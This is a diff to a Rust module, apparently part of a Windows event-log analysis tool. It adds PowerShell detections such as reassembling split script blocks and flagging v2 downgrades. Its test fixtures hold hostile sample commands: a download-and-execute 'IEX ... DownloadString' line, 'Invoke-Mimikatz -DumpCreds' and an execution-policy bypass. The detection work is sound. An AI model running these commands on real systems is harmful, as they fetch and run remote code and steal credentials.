@@ -1,14 +1,64 @@
 use crate::detections::configs;
+use crate::detections::print::{AlertMessages, MessageNotation};
 use crate::detections::utils;
 use crate::models::event;
-use std::collections::HashMap;
+use chrono::{DateTime, Utc};
+use std::collections::{BTreeMap, HashMap, HashSet};
+use std::fs;
+use std::path::Path;
 use std::usize;
 
-pub struct PowerShell {}
+// 4104のLevelがWarning(3)のスクリプトブロックは、PowerShell自身が不審と判断して記録したもの
+const WARNING_LEVEL: &str = "3";
+
+//
+// 4104のスクリプトブロック
+// 大きなスクリプトはScriptBlockIdが同じ複数のイベントに分割して記録される
+//
+#[derive(Debug)]
+struct ScriptBlock {
+    id: String,
+    total: usize,
+    // key: MessageNumber
+    parts: BTreeMap<usize, String>,
+    path: String,
+    system_time: String,
+    // system_timeは出力用に整形済みなので、並べ替えにはこちらを使う
+    time: Option<DateTime<Utc>>,
+    is_warning: bool,
+    // --followで前回disp_staleを呼んだ時の部分の数
+    flushed_parts: usize,
+}
+
+impl ScriptBlock {
+    fn is_complete(&self) -> bool {
+        return self.parts.len() >= self.total;
+    }
+
+    fn text(&self) -> String {
+        return self.parts.values().map(|s| s.as_str()).collect();
+    }
+}
+
+pub struct PowerShell {
+    // key: ScriptBlockId, 全ての部分が揃うまでここに保持する
+    script_blocks: HashMap<String, ScriptBlock>,
+    extract_dir: Option<String>,
+    // Windows PowerShellのログで検査済みのHostIdとHostApplication
+    // 1回の起動で400, 600, 403, 800が何件も記録されるので、同じものは1回だけ検査する
+    checked_hosts: HashSet<String>,
+}
 
 impl PowerShell {
     pub fn new() -> PowerShell {
-        PowerShell {}
+        PowerShell {
+            script_blocks: HashMap::new(),
+            extract_dir: configs::CONFIG
+                .args
+                .value_of("extract-scripts")
+                .map(|dir| dir.to_string()),
+            checked_hosts: HashSet::new(),
+        }
     }
 
     pub fn detection(
@@ -16,9 +66,49 @@ impl PowerShell {
         event_id: String,
         system: &event::System,
         event_data: HashMap<String, String>,
+        time: &Option<DateTime<Utc>>,
     ) {
         self.execute_pipeline(&event_id, &event_data, &system.time_created.system_time);
-        self.execute_remote_command(&event_id, &event_data, &system.time_created.system_time);
+        self.execute_remote_command(&event_id, system, &event_data, time);
+        self.execute_engine_lifecycle(&event_id, &event_data, &system.time_created.system_time);
+        self.execute_pipeline_details(&event_id, &event_data, &system.time_created.system_time);
+    }
+
+    // ファイルの最後まで揃わなかったスクリプトブロックも、あるところまでで検査する
+    pub fn disp(&mut self) {
+        for script_block in self.take_script_blocks() {
+            self.check_script_block(script_block);
+        }
+    }
+
+    // --follow: 前回の呼び出しから部分が増えていないスクリプトブロックは、残りが記録されないものとして検査する
+    pub fn disp_stale(&mut self) {
+        let stale_ids: Vec<String> = self
+            .script_blocks
+            .iter_mut()
+            .filter_map(|(id, block)| {
+                if block.parts.len() == block.flushed_parts {
+                    return Option::Some(id.to_string());
+                }
+                block.flushed_parts = block.parts.len();
+                return Option::None;
+            })
+            .collect();
+        let mut script_blocks: Vec<ScriptBlock> = stale_ids
+            .iter()
+            .filter_map(|id| self.script_blocks.remove(id))
+            .collect();
+        script_blocks.sort_by(|a, b| a.time.cmp(&b.time));
+        for script_block in script_blocks {
+            self.check_script_block(script_block);
+        }
+    }
+
+    fn take_script_blocks(&mut self) -> Vec<ScriptBlock> {
+        let mut script_blocks: Vec<ScriptBlock> =
+            self.script_blocks.drain().map(|(_, block)| block).collect();
+        script_blocks.sort_by(|a, b| a.time.cmp(&b.time));
+        return script_blocks;
     }
 
     fn execute_pipeline(
@@ -34,60 +124,679 @@ impl PowerShell {
         let default = String::from("");
         let commandline = event_data.get("ContextInfo").unwrap_or(&default);
 
-        if commandline.contains("Host Application")
-            || commandline.contains("ホスト アプリケーション")
-        {
-            let temp_command_with_extra = configs::CONFIG
-                .powershell_hostapplication_regex
-                .replace_all(commandline, "");
-            let command = configs::CONFIG
-                .powershell_line_feed_regex
-                .replace_all(&temp_command_with_extra, "");
-
-            if command != "" {
-                let configs: &yaml_rust::Yaml = &configs::CONFIG.configs;
-                let value = configs["minlength"].as_i64().unwrap_or(1000).clone();
-                utils::check_command(
-                    4103,
-                    &command,
-                    value as usize,
-                    0,
-                    &default,
-                    &default,
-                    &system_time,
-                );
-            }
+        if let Some(command) = get_host_application(commandline) {
+            let configs: &yaml_rust::Yaml = &configs::CONFIG.configs;
+            let value = configs["minlength"].as_i64().unwrap_or(1000).clone();
+            utils::check_command(4103, &command, value as usize, &[], &default, &system_time);
         }
     }
 
-    fn execute_remote_command(
+    // Windows PowerShellのログのエンジン(400, 403)とプロバイダ(600)の開始・停止
+    fn execute_engine_lifecycle(
+        &mut self,
+        event_id: &String,
+        event_data: &HashMap<String, String>,
+        system_time: &String,
+    ) {
+        if event_id != "400" && event_id != "403" && event_id != "600" {
+            return;
+        }
+
+        if let Some(context) = get_classic_context(event_data) {
+            self.check_host(event_id, &context, system_time);
+        }
+    }
+
+    // Windows PowerShellのログのパイプラインの実行(800)
+    fn execute_pipeline_details(
         &mut self,
         event_id: &String,
         event_data: &HashMap<String, String>,
         system_time: &String,
+    ) {
+        if event_id != "800" {
+            return;
+        }
+
+        let default = String::from("");
+        let context = get_classic_context(event_data).unwrap_or_default();
+        self.check_host(event_id, &context, system_time);
+
+        // コンテキストのCommandLineが空の場合は、1つ目のDataのコマンドを使う
+        let fields = parse_classic_context(&context);
+        let command = fields
+            .get("CommandLine")
+            .filter(|command| !command.is_empty())
+            .or(event_data.get("Data1"))
+            .unwrap_or(&default);
+        if !command.is_empty() {
+            let configs: &yaml_rust::Yaml = &configs::CONFIG.configs;
+            let value = configs["minlength"].as_i64().unwrap_or(1000).clone();
+            utils::check_command(800, command, value as usize, &[], &default, &system_time);
+        }
+    }
+
+    // HostApplicationのコマンドとエンジンのバージョンを検査する
+    fn check_host(&mut self, event_id: &String, context: &str, system_time: &String) {
+        let default = String::from("");
+        let fields = parse_classic_context(context);
+        let host_application = get_host_application(context).unwrap_or_default();
+        let key = format!(
+            "{}:{}",
+            fields.get("HostId").unwrap_or(&default),
+            host_application
+        );
+        if !self.checked_hosts.insert(key) {
+            return;
+        }
+
+        if !host_application.is_empty() {
+            let configs: &yaml_rust::Yaml = &configs::CONFIG.configs;
+            let value = configs["minlength"].as_i64().unwrap_or(1000).clone();
+            utils::check_command(
+                event_id.parse::<usize>().unwrap_or(0),
+                &host_application,
+                value as usize,
+                &[],
+                &default,
+                &system_time,
+            );
+        }
+        self.v2_downgrade(event_id, &fields, &host_application, system_time);
+    }
+
+    // PowerShell 2.0はスクリプトブロックのログやAMSIに対応していないので、攻撃者が意図的に使う
+    fn v2_downgrade(
+        &self,
+        event_id: &String,
+        fields: &HashMap<String, String>,
+        host_application: &str,
+        system_time: &String,
+    ) -> Option<Vec<String>> {
+        let engine_version = fields.get("EngineVersion")?;
+        if !engine_version.starts_with("2.") {
+            return Option::None;
+        }
+
+        let mut msges: Vec<String> = Vec::new();
+        msges.push(format!("Date: {}", system_time));
+        msges.push(format!("EventID: {}", event_id));
+        msges.push("Message: PowerShell v2 downgrade".to_string());
+        msges.push(format!("EngineVersion: {}", engine_version));
+        msges.push(format!("HostApplication: {}", host_application));
+        msges.push(
+            "Results: PowerShell 2.0 bypasses script block logging, AMSI and constrained language mode."
+                .to_string(),
+        );
+        return AlertMessages::output(msges);
+    }
+
+    fn execute_remote_command(
+        &mut self,
+        event_id: &String,
+        system: &event::System,
+        event_data: &HashMap<String, String>,
+        time: &Option<DateTime<Utc>>,
     ) {
         if event_id != "4104" {
             return;
         }
 
+        if let Some(script_block) = self.add_script_block(system, event_data, time) {
+            self.check_script_block(script_block);
+        }
+    }
+
+    // 全ての部分が揃ったスクリプトブロックを返す
+    fn add_script_block(
+        &mut self,
+        system: &event::System,
+        event_data: &HashMap<String, String>,
+        time: &Option<DateTime<Utc>>,
+    ) -> Option<ScriptBlock> {
         let default = String::from("");
-        let path = event_data.get("Path").unwrap().to_string();
-        if path == "".to_string() {
-            let commandline = event_data.get("ScriptBlockText").unwrap_or(&default);
-            if commandline.to_string() != default {
-                let configs: &yaml_rust::Yaml = &configs::CONFIG.configs;
-                let value = configs["minlength"].as_i64().unwrap_or(1000).clone();
-
-                utils::check_command(
-                    4104,
-                    &commandline,
-                    value as usize,
-                    0,
-                    &default,
-                    &default,
-                    &system_time,
-                );
+        let id = event_data.get("ScriptBlockId").unwrap_or(&default);
+        let number = event_data
+            .get("MessageNumber")
+            .and_then(|n| n.parse::<usize>().ok())
+            .unwrap_or(1);
+        let total = event_data
+            .get("MessageTotal")
+            .and_then(|n| n.parse::<usize>().ok())
+            .unwrap_or(1);
+
+        let script_block =
+            self.script_blocks
+                .entry(id.to_string())
+                .or_insert_with(|| ScriptBlock {
+                    id: id.to_string(),
+                    total: total,
+                    parts: BTreeMap::new(),
+                    path: event_data.get("Path").unwrap_or(&default).to_string(),
+                    system_time: system.time_created.system_time.to_string(),
+                    time: time.clone(),
+                    is_warning: false,
+                    flushed_parts: 0,
+                });
+        script_block.parts.insert(
+            number,
+            event_data
+                .get("ScriptBlockText")
+                .unwrap_or(&default)
+                .to_string(),
+        );
+        script_block.is_warning |= system.level == WARNING_LEVEL;
+
+        // ScriptBlockIdがない場合は分割されていないものとして扱う
+        if !script_block.is_complete() && !id.is_empty() {
+            return Option::None;
+        }
+        return self.script_blocks.remove(id);
+    }
+
+    fn check_script_block(&self, script_block: ScriptBlock) {
+        let commandline = script_block.text();
+        let extracted = self.extract_script_block(&script_block, &commandline);
+        if script_block.is_warning {
+            self.script_block_warning(&script_block, &extracted);
+        }
+
+        // ファイルから読み込んだスクリプトは、信頼できる場所のものだけ検査しない
+        let default = String::from("");
+        if commandline.to_string() != default && !is_trusted_path(&script_block.path) {
+            let configs: &yaml_rust::Yaml = &configs::CONFIG.configs;
+            let value = configs["minlength"].as_i64().unwrap_or(1000).clone();
+            // .ps1ファイルは長いのが普通なので、長さでは検知しない
+            let minlength = if script_block.path.is_empty() {
+                value as usize
+            } else {
+                usize::MAX
+            };
+
+            utils::check_command(
+                4104,
+                &commandline,
+                minlength,
+                &[],
+                &script_block.path,
+                &script_block.system_time,
+            );
+        }
+    }
+
+    fn script_block_warning(
+        &self,
+        script_block: &ScriptBlock,
+        extracted: &Option<String>,
+    ) -> Option<Vec<String>> {
+        let mut msges: Vec<String> = Vec::new();
+        msges.push(format!("Date: {}", script_block.system_time));
+        msges.push("EventID: 4104".to_string());
+        msges.push("Message: PowerShell script block logged as suspicious".to_string());
+        msges.push(format!("ScriptBlockId: {}", script_block.id));
+        msges.push(format!(
+            "Parts: {} of {}{}",
+            script_block.parts.len(),
+            script_block.total,
+            if script_block.is_complete() {
+                ""
+            } else {
+                " (incomplete)"
             }
+        ));
+        if !script_block.path.is_empty() {
+            msges.push(format!("Path: {}", script_block.path));
+        }
+        if let Some(extracted) = extracted {
+            msges.push(format!("Extracted: {}", extracted));
+        }
+        msges.push(
+            "Results: PowerShell logged this script block at Warning level because it contains suspicious keywords."
+                .to_string(),
+        );
+        return AlertMessages::output(msges);
+    }
+
+    // --extract-scriptsで指定したディレクトリに<ScriptBlockId>.ps1として書き出す
+    fn extract_script_block(&self, script_block: &ScriptBlock, text: &str) -> Option<String> {
+        let dir = self.extract_dir.as_ref()?;
+        let mut filename: String = script_block
+            .id
+            .chars()
+            .filter(|c| c.is_ascii_alphanumeric() || *c == '-')
+            .collect();
+        if filename.is_empty() {
+            filename = "unknown".to_string();
+        }
+        if !script_block.is_complete() {
+            filename.push_str("_incomplete");
+        }
+        let path = Path::new(dir).join(format!("{}.ps1", filename));
+        let result = fs::create_dir_all(dir).and_then(|_| fs::write(&path, text));
+        if let Err(e) = result {
+            let stdout = std::io::stdout();
+            let mut stdout = stdout.lock();
+            MessageNotation::alert(
+                &mut stdout,
+                format!("fail to write {}, {}", path.display(), e),
+            )
+            .ok();
+            return Option::None;
+        }
+        return Option::Some(path.display().to_string());
+    }
+}
+
+fn is_trusted_path(path: &str) -> bool {
+    if path.is_empty() {
+        return false;
+    }
+    return configs::CONFIG
+        .script_path_whitelist_regex
+        .iter()
+        .any(|regex| regex.is_match(path));
+}
+
+// 4103のContextInfoや400, 800のコンテキストからHostApplicationのコマンドを取り出す
+fn get_host_application(context: &str) -> Option<String> {
+    if !configs::CONFIG
+        .powershell_hostapplication_regex
+        .is_match(context)
+    {
+        return Option::None;
+    }
+    let temp_command_with_extra = configs::CONFIG
+        .powershell_hostapplication_regex
+        .replace_all(context, "");
+    let command = configs::CONFIG
+        .powershell_line_feed_regex
+        .replace_all(&temp_command_with_extra, "");
+    let command = command.trim();
+    if command.is_empty() {
+        return Option::None;
+    }
+    return Option::Some(command.to_string());
+}
+
+// Windows PowerShellのログは名前のないDataに"HostApplication=..."のようなコンテキストが入っている
+fn get_classic_context(event_data: &HashMap<String, String>) -> Option<String> {
+    let mut names: Vec<&String> = event_data.keys().collect();
+    names.sort();
+    return names
+        .into_iter()
+        .filter_map(|name| event_data.get(name))
+        .find(|value| value.contains("HostApplication="))
+        .map(|value| value.to_string());
+}
+
+fn parse_classic_context(context: &str) -> HashMap<String, String> {
+    return context
+        .lines()
+        .filter_map(|line| {
+            let mut kv = line.trim().splitn(2, "=");
+            let key = kv.next()?;
+            let value = kv.next()?;
+            return Option::Some((key.to_string(), value.trim().to_string()));
+        })
+        .collect();
+}
+
+#[cfg(test)]
+mod tests {
+    extern crate quick_xml;
+
+    use crate::detections::powershell;
+    use crate::detections::timestamp;
+    use crate::models::event;
+    use chrono::{DateTime, Utc};
+
+    fn part_time(part: &event::Evtx) -> Option<DateTime<Utc>> {
+        return timestamp::parse_system_time(&part.system.time_created.system_time);
+    }
+
+    #[test]
+    fn test_add_script_block() {
+        let mut powershell = powershell::PowerShell::new();
+        let parts: Vec<event::Evtx> = vec![
+            get_script_block_part2_xml(),
+            get_script_block_part1_xml(),
+            get_script_block_part3_xml(),
+        ]
+        .iter()
+        .map(|xml_str| quick_xml::de::from_str(xml_str).unwrap())
+        .collect();
+        let mut completed = vec![];
+        for part in &parts {
+            completed.push(powershell.add_script_block(
+                &part.system,
+                &part.parse_event_data(),
+                &part_time(&part),
+            ));
+        }
+        assert!(completed[0].is_none());
+        assert!(completed[1].is_none());
+        let script_block = completed.pop().unwrap().unwrap();
+        assert_eq!("$a = 1;Invoke-Mimikatz -DumpCreds", script_block.text());
+        assert_eq!("{5e0e7ec6-2a17-4c53-9a9d-7b1a2c2f3d4e}", script_block.id);
+        assert!(script_block.is_warning);
+        assert!(powershell.script_blocks.is_empty());
+
+        // 全ての部分が揃わなかった場合
+        let xml_str = get_script_block_part2_xml()
+            .replace(
+                r#"<Data Name="MessageNumber">2</Data>"#,
+                r#"<Data Name="MessageNumber">1</Data>"#,
+            )
+            .replace(
+                r#"<Data Name="MessageTotal">3</Data>"#,
+                r#"<Data Name="MessageTotal">2</Data>"#,
+            )
+            .replace("<Level>5</Level>", "<Level>3</Level>");
+        let part: event::Evtx = quick_xml::de::from_str(&xml_str).unwrap();
+        assert!(powershell
+            .add_script_block(&part.system, &part.parse_event_data(), &part_time(&part))
+            .is_none());
+        let script_block = powershell.script_blocks.values().next().unwrap();
+        let v = powershell
+            .script_block_warning(script_block, &Option::None)
+            .unwrap();
+        assert_eq!(
+            "Message: PowerShell script block logged as suspicious",
+            v[2]
+        );
+        assert_eq!("Parts: 1 of 2 (incomplete)", v[4]);
+    }
+
+    #[test]
+    fn test_take_script_blocks() {
+        // 出力用に整形した時刻の文字列ではなく、パースした時刻の順に並べる
+        let mut powershell = powershell::PowerShell::new();
+        for (id, time_created, system_time) in vec![
+            (
+                "a",
+                "2021-08-01T09:00:05",
+                "2021/08/01 09:00:05 +00:00 (Mon)",
+            ),
+            (
+                "b",
+                "2021-08-01T09:00:01",
+                "2021/08/01 09:00:01 +00:00 (Sun)",
+            ),
+            (
+                "c",
+                "2021-08-01T09:00:03",
+                "2021/08/01 09:00:03 +00:00 (Sat)",
+            ),
+        ] {
+            let xml_str = get_script_block_single_xml()
+                .replace("2021-08-01T09:00:01", time_created)
+                .replace(
+                    r#"<Data Name="MessageTotal">1</Data>"#,
+                    r#"<Data Name="MessageTotal">2</Data>"#,
+                );
+            let mut part: event::Evtx = quick_xml::de::from_str(&xml_str).unwrap();
+            let time = part_time(&part);
+            part.system.time_created.system_time = system_time.to_string();
+            let mut event_data = part.parse_event_data();
+            event_data.insert("ScriptBlockId".to_string(), id.to_string());
+            assert!(powershell
+                .add_script_block(&part.system, &event_data, &time)
+                .is_none());
         }
+        let ids: Vec<String> = powershell
+            .take_script_blocks()
+            .into_iter()
+            .map(|script_block| script_block.id)
+            .collect();
+        assert_eq!(vec!["b", "c", "a"], ids);
+        assert!(powershell.script_blocks.is_empty());
+    }
+
+    #[test]
+    fn test_disp_stale() {
+        let mut powershell = powershell::PowerShell::new();
+        let part: event::Evtx = quick_xml::de::from_str(&get_script_block_part1_xml()).unwrap();
+        powershell.add_script_block(&part.system, &part.parse_event_data(), &part_time(&part));
+
+        // 前回から部分が増えたものは残す
+        powershell.disp_stale();
+        assert_eq!(1, powershell.script_blocks.len());
+        let part: event::Evtx = quick_xml::de::from_str(&get_script_block_part2_xml()).unwrap();
+        powershell.add_script_block(&part.system, &part.parse_event_data(), &part_time(&part));
+        powershell.disp_stale();
+        assert_eq!(1, powershell.script_blocks.len());
+
+        // 増えなかったものは検査して取り除く
+        powershell.disp_stale();
+        assert!(powershell.script_blocks.is_empty());
+    }
+
+    #[test]
+    fn test_script_block_path() {
+        // Pathがないイベントでもpanicしない
+        let mut powershell = powershell::PowerShell::new();
+        let part: event::Evtx = quick_xml::de::from_str(&get_script_block_single_xml()).unwrap();
+        let mut event_data = part.parse_event_data();
+        event_data.remove("Path");
+        let script_block = powershell
+            .add_script_block(&part.system, &event_data, &Option::None)
+            .unwrap();
+        assert_eq!("", script_block.path);
+
+        assert!(powershell::is_trusted_path(
+            "C:\\WINDOWS\\system32\\WindowsPowerShell\\v1.0\\Modules\\Defender\\Defender.psm1"
+        ));
+        assert!(!powershell::is_trusted_path(
+            "C:\\Users\\user\\AppData\\Local\\Temp\\a.ps1"
+        ));
+        assert!(!powershell::is_trusted_path(""));
+    }
+
+    #[test]
+    fn test_v2_downgrade() {
+        let xml_str = r#"
+        <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
+          <System>
+            <Provider Name="PowerShell"/>
+            <EventID Qualifiers="0">400</EventID>
+            <Level>4</Level>
+            <Task>4</Task>
+            <Keywords>0x80000000000000</Keywords>
+            <TimeCreated SystemTime="2021-08-01T09:00:00.000000Z"/>
+            <EventRecordID>200</EventRecordID>
+            <Channel>Windows PowerShell</Channel>
+            <Computer>WS01</Computer>
+            <Security/>
+          </System>
+          <EventData>
+            <Data>Available</Data>
+            <Data>None</Data>
+            <Data>	NewEngineState=Available
+	PreviousEngineState=None
+
+	SequenceNumber=13
+
+	HostName=ConsoleHost
+	HostVersion=2.0
+	HostId=5b1a4e2c-7d3b-4b4e-9a8f-2c1d3e4f5a6b
+	HostApplication=powershell.exe -version 2 -nop -c IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')
+	EngineVersion=2.0
+	RunspaceId=0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0
+	PipelineId=
+	CommandName=
+	CommandType=
+	ScriptName=
+	CommandPath=
+	CommandLine=</Data>
+          </EventData>
+        </Event>"#;
+        let event: event::Evtx = quick_xml::de::from_str(xml_str).unwrap();
+        let event_data = event.parse_event_data();
+        assert_eq!("Available", event_data.get("Data1").unwrap());
+
+        let context = powershell::get_classic_context(&event_data).unwrap();
+        let fields = powershell::parse_classic_context(&context);
+        assert_eq!("2.0", fields.get("EngineVersion").unwrap());
+        let host_application = powershell::get_host_application(&context).unwrap();
+        assert_eq!(
+            "powershell.exe -version 2 -nop -c IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')",
+            host_application
+        );
+
+        let powershell = powershell::PowerShell::new();
+        let v = powershell
+            .v2_downgrade(
+                &"400".to_string(),
+                &fields,
+                &host_application,
+                &event.system.time_created.system_time,
+            )
+            .unwrap();
+        assert_eq!("Message: PowerShell v2 downgrade", v[2]);
+        assert_eq!("EngineVersion: 2.0", v[3]);
+
+        let mut fields = fields.clone();
+        fields.insert("EngineVersion".to_string(), "5.1.19041.1".to_string());
+        assert!(powershell
+            .v2_downgrade(
+                &"400".to_string(),
+                &fields,
+                "powershell.exe",
+                &"".to_string()
+            )
+            .is_none());
+    }
+
+    #[test]
+    fn test_get_host_application() {
+        let context = "        Severity = Informational\n        Host Name = ConsoleHost\n        Host Application = powershell.exe -ep bypass\n        Engine Version = 5.1.19041.1\n";
+        assert_eq!(
+            Option::Some("powershell.exe -ep bypass".to_string()),
+            powershell::get_host_application(context)
+        );
+        assert_eq!(
+            Option::None,
+            powershell::get_host_application("Host Name = ConsoleHost")
+        );
+    }
+
+    fn get_script_block_part1_xml() -> String {
+        return r#"
+        <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
+          <System>
+            <Provider Name="Microsoft-Windows-PowerShell" Guid="{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"/>
+            <EventID>4104</EventID>
+            <Version>1</Version>
+            <Level>5</Level>
+            <Task>2</Task>
+            <Opcode>15</Opcode>
+            <Keywords>0x0</Keywords>
+            <TimeCreated SystemTime="2021-08-01T09:00:01.000000Z"/>
+            <EventRecordID>100</EventRecordID>
+            <Correlation ActivityID="{dd3e1c1c-a1c3-0000-b3d2-3edda1c3d701}"/>
+            <Execution ProcessID="4300" ThreadID="4928"/>
+            <Channel>Microsoft-Windows-PowerShell/Operational</Channel>
+            <Computer>WS01</Computer>
+            <Security UserID="S-1-5-21-1-2-3-1001"/>
+          </System>
+          <EventData>
+            <Data Name="MessageNumber">1</Data>
+            <Data Name="MessageTotal">3</Data>
+            <Data Name="ScriptBlockText">$a = 1;</Data>
+            <Data Name="ScriptBlockId">{5e0e7ec6-2a17-4c53-9a9d-7b1a2c2f3d4e}</Data>
+            <Data Name="Path"></Data>
+          </EventData>
+        </Event>"#
+            .to_string();
+    }
+
+    fn get_script_block_part2_xml() -> String {
+        return r#"
+        <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
+          <System>
+            <Provider Name="Microsoft-Windows-PowerShell" Guid="{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"/>
+            <EventID>4104</EventID>
+            <Version>1</Version>
+            <Level>5</Level>
+            <Task>2</Task>
+            <Opcode>15</Opcode>
+            <Keywords>0x0</Keywords>
+            <TimeCreated SystemTime="2021-08-01T09:00:02.000000Z"/>
+            <EventRecordID>100</EventRecordID>
+            <Correlation ActivityID="{dd3e1c1c-a1c3-0000-b3d2-3edda1c3d701}"/>
+            <Execution ProcessID="4300" ThreadID="4928"/>
+            <Channel>Microsoft-Windows-PowerShell/Operational</Channel>
+            <Computer>WS01</Computer>
+            <Security UserID="S-1-5-21-1-2-3-1001"/>
+          </System>
+          <EventData>
+            <Data Name="MessageNumber">2</Data>
+            <Data Name="MessageTotal">3</Data>
+            <Data Name="ScriptBlockText">Invoke-Mimi</Data>
+            <Data Name="ScriptBlockId">{5e0e7ec6-2a17-4c53-9a9d-7b1a2c2f3d4e}</Data>
+            <Data Name="Path"></Data>
+          </EventData>
+        </Event>"#
+            .to_string();
+    }
+
+    fn get_script_block_part3_xml() -> String {
+        return r#"
+        <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
+          <System>
+            <Provider Name="Microsoft-Windows-PowerShell" Guid="{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"/>
+            <EventID>4104</EventID>
+            <Version>1</Version>
+            <Level>3</Level>
+            <Task>2</Task>
+            <Opcode>15</Opcode>
+            <Keywords>0x0</Keywords>
+            <TimeCreated SystemTime="2021-08-01T09:00:03.000000Z"/>
+            <EventRecordID>100</EventRecordID>
+            <Correlation ActivityID="{dd3e1c1c-a1c3-0000-b3d2-3edda1c3d701}"/>
+            <Execution ProcessID="4300" ThreadID="4928"/>
+            <Channel>Microsoft-Windows-PowerShell/Operational</Channel>
+            <Computer>WS01</Computer>
+            <Security UserID="S-1-5-21-1-2-3-1001"/>
+          </System>
+          <EventData>
+            <Data Name="MessageNumber">3</Data>
+            <Data Name="MessageTotal">3</Data>
+            <Data Name="ScriptBlockText">katz -DumpCreds</Data>
+            <Data Name="ScriptBlockId">{5e0e7ec6-2a17-4c53-9a9d-7b1a2c2f3d4e}</Data>
+            <Data Name="Path"></Data>
+          </EventData>
+        </Event>"#
+            .to_string();
+    }
+
+    fn get_script_block_single_xml() -> String {
+        return r#"
+        <Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
+          <System>
+            <Provider Name="Microsoft-Windows-PowerShell" Guid="{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"/>
+            <EventID>4104</EventID>
+            <Version>1</Version>
+            <Level>5</Level>
+            <Task>2</Task>
+            <Opcode>15</Opcode>
+            <Keywords>0x0</Keywords>
+            <TimeCreated SystemTime="2021-08-01T09:00:01.000000Z"/>
+            <EventRecordID>100</EventRecordID>
+            <Correlation ActivityID="{dd3e1c1c-a1c3-0000-b3d2-3edda1c3d701}"/>
+            <Execution ProcessID="4300" ThreadID="4928"/>
+            <Channel>Microsoft-Windows-PowerShell/Operational</Channel>
+            <Computer>WS01</Computer>
+            <Security UserID="S-1-5-21-1-2-3-1001"/>
+          </System>
+          <EventData>
+            <Data Name="MessageNumber">1</Data>
+            <Data Name="MessageTotal">1</Data>
+            <Data Name="ScriptBlockText">Get-Process</Data>
+            <Data Name="ScriptBlockId">{5e0e7ec6-2a17-4c53-9a9d-7b1a2c2f3d4e}</Data>
+            <Data Name="Path"></Data>
+          </EventData>
+        </Event>"#
+            .to_string();
     }
 }